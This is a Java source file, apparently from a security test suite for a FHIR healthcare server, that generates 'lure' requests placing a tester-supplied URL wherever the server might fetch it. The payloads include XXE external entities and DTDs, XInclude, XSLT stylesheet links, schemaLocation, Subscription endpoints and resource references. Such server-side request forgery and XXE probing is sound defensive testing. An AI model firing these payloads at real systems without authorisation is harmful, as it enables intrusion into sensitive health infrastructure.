package org.passerelle.hostile;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;

/** Requests with a URL in each place where something that reads them might follow it. */
final class Lures {

  private static final String JSON = "application/fhir+json";
  private static final String XML = "application/fhir+xml";

  /** Resources, in which {@code @} is the URL. */
  private static final List<String> RESOURCES =
      List.of(
          "'Patient','meta':{'profile':['@/p']}",
          "'Patient','meta':{'source':'@/s','tag':[{'system':'@/t','code':'a'}]}",
          "'Patient','meta':{'security':[{'system':'@/l','code':'a'}]}",
          "'Patient','implicitRules':'@/rules'",
          "'Patient','extension':[{'url':'@/extension','valueUrl':'@/value'}]",
          "'Patient','modifierExtension':[{'url':'@/m','valueCanonical':'@/c|1'}]",
          "'Patient','photo':[{'contentType':'image/png','url':'@/photo.png'}]",
          "'Patient','managingOrganization':{'reference':'@/fhir/Organization/1'}",
          "'Patient','generalPractitioner':[{'reference':'@/fhir/Practitioner/1'}]",
          "'Patient','link':[{'other':{'reference':'@/fhir/Patient/1'},'type':'seealso'}]",
          "'Patient','maritalStatus':{'coding':[{'system':'@/codes','code':'a'}]}",
          "'Patient','text':{'status':'generated','div':'<div xmlns=\\\"http://www.w3.org/1999/xhtml\\\">"
              + "<img src=\\\"@/i.png\\\" alt=\\\"a\\\"/><a href=\\\"@/a\\\">b</a></div>'}",
          "'Patient','contained':[{'resourceType':'ValueSet','id':'v','url':'@/v','status':'active',"
              + "'compose':{'include':[{'system':'@/codes','valueSet':['@/w']}]}}]",
          "'DocumentReference','status':'current','content':[{'attachment':{'url':'@/d.pdf'}}]",
          "'Task','status':'draft','intent':'order','instantiatesCanonical':'@/activity|1',"
              + "'instantiatesUri':'@/u','focus':{'reference':'@/fhir/ServiceRequest/1'}",
          "'Task','status':'draft','intent':'order','for':{'reference':'@/fhir/Patient/1'}",
          "'ServiceRequest','status':'draft','intent':'order','instantiatesCanonical':['@/plan'],"
              + "'subject':{'reference':'@/fhir/Patient/1'}",
          "'QuestionnaireResponse','status':'completed','questionnaire':'@/questionnaire|1'",
          "'Questionnaire','status':'active','derivedFrom':['@/q'],'item':[{'linkId':'1',"
              + "'type':'choice','answerValueSet':'@/answers','definition':'@/d#e'}]",
          "'Observation','status':'final','code':{'coding':[{'system':'@/codes','code':'a'}]},"
              + "'subject':{'reference':'@/fhir/Patient/1'}",
          "'Consent','status':'active','policy':[{'authority':'@/a','uri':'@/u'}],"
              + "'sourceAttachment':{'url':'@/consent.pdf'}",
          "'Communication','status':'completed','payload':[{'contentAttachment':{'url':'@/c'}}]",
          "'Subscription','status':'requested','criteria':'Task?','channel':"
              + "{'type':'rest-hook','endpoint':'@/hook'}",
          "'Endpoint','status':'active','address':'@/endpoint'",
          "'StructureDefinition','url':'@/sd','baseDefinition':'@/base','type':'Patient'");

  private static final List<String> DOCUMENTS =
      List.of(
          "<!DOCTYPE P SYSTEM \"@/x.dtd\">" + HostileBodies.patient("a"),
          "<!DOCTYPE P PUBLIC \"-//x//y\" \"@/y.dtd\">" + HostileBodies.patient("a"),
          "<!DOCTYPE P [<!ENTITY x SYSTEM \"@/entity\">]>" + HostileBodies.patient("&x;"),
          "<!DOCTYPE P [<!ENTITY % p SYSTEM \"@/parameter\"> %p;]>" + HostileBodies.patient("a"),
          "<?xml-stylesheet type=\"text/xsl\" href=\"@/x.xsl\"?>" + HostileBodies.patient("a"),
          "<x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"@/include\"/>",
          "<Patient xmlns=\"http://hl7.org/fhir\"><x:include"
              + " xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"@/include\"/></Patient>",
          "<Patient xmlns=\"http://hl7.org/fhir\" xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\""
              + " i:schemaLocation=\"http://hl7.org/fhir @/fhir.xsd\"/>",
          "<Patient xmlns=\"http://hl7.org/fhir\"><text><status value=\"generated\"/><div"
              + " xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"@/i\" alt=\"a\"/></div></text></Patient>");

  private static final List<String> QUERIES =
      List.of(
          "Patient?_profile=@/p",
          "Patient?_source=@/s",
          "Patient?general-practitioner=@/fhir/Practitioner/1",
          "Patient?_tag:in=@/v",
          "Observation?code:in=@/v",
          "Observation?code:below=@/codes%7Ca",
          "Task?patient=@/fhir/Patient/1",
          "Patient?_format=@/f",
          "Patient/$validate?profile=@/p",
          "ValueSet/$expand?url=@/v",
          "CodeSystem/$lookup?system=@/codes&code=a");

  private Lures() {}

  /** With this in place of the URL. */
  static Stream<Attack> all(String url) {
    Stream<Attack> plain = RESOURCES.stream().map(Lures::json).flatMap(Lures::ways);
    Stream<Attack> documents = DOCUMENTS.stream().map(text -> write("Patient", XML, text));
    Stream<Attack> queries =
        QUERIES.stream()
            .map(query -> "/fhir/" + HostileInput.ROOM + "/" + query.replace("@", url))
            .map(target -> Attack.get("lure", target).maybe());
    return Stream.of(filled(plain, url), filled(documents, url), queries)
        .flatMap(attacks -> attacks);
  }

  private static Stream<Attack> filled(Stream<Attack> attacks, String url) {
    return attacks.map(attack -> attack.saying(attack.text().replace("@", url)));
  }

  private static String json(String resource) {
    return "{'resourceType':".concat(resource).concat("}").replace('\'', '"');
  }

  /** Alone, validated alone, and as an entry that names an address of its own. */
  private static Stream<Attack> ways(String json) {
    String type = json.split("\"", 5)[3];
    String entry =
        "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"link\":[{\"relation\":\"self\","
            + "\"url\":\"@/self\"}],\"entry\":[{\"fullUrl\":\"@/fhir/"
            + type
            + "/1\",\"resource\":"
            + json
            + ",\"request\":{\"method\":\"POST\",\"url\":\""
            + type
            + "\"}}]}";
    return Stream.of(
        write(type, JSON, json), write(type + "/$validate", JSON, json), write("", JSON, entry));
  }

  private static Attack write(String path, String type, String text) {
    byte[] body = text.getBytes(StandardCharsets.UTF_8);
    return Attack.write("lure", path.isEmpty() ? "" : "/" + path, type, body, false);
  }
}
